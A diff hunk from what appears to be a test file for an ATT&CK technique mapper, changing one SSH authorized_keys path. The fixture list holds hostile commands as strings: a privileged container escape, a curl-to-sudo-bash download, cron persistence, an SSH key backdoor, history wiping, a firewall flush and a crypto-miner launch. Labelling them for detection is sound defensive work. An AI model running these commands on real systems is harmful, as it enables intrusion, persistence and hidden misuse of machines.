@@ -16,7 +16,7 @@ ATTACK = "# A break-in\n\nAttackers broke in. Their malware hid, and the victims
         ("docker -H tcp://10.1.1.1:2375 run -d -v /:/host --privileged a/b", {"T1610", "T1611"}),
         ("curl -fsSL http://x/y | sudo bash", {"T1105", "T1059.004"}),
         ("(crontab -l; echo '* * * * * /tmp/.x') | crontab -", {"T1053.003"}),
-        ("echo ssh-rsa AAAA >> /root/.ssh/authorized_keys", {"T1098.004"}),
+        ("echo ssh-rsa AAAA >> /home/ops/.ssh/authorized_keys", {"T1098.004"}),
         ("unset HISTFILE; history -c", {"T1070.003"}),
         ("iptables -F", {"T1686"}),
         ("./xmrig -o stratum+tcp://pool:3333 --donate-level 1", {"T1496.001"}),
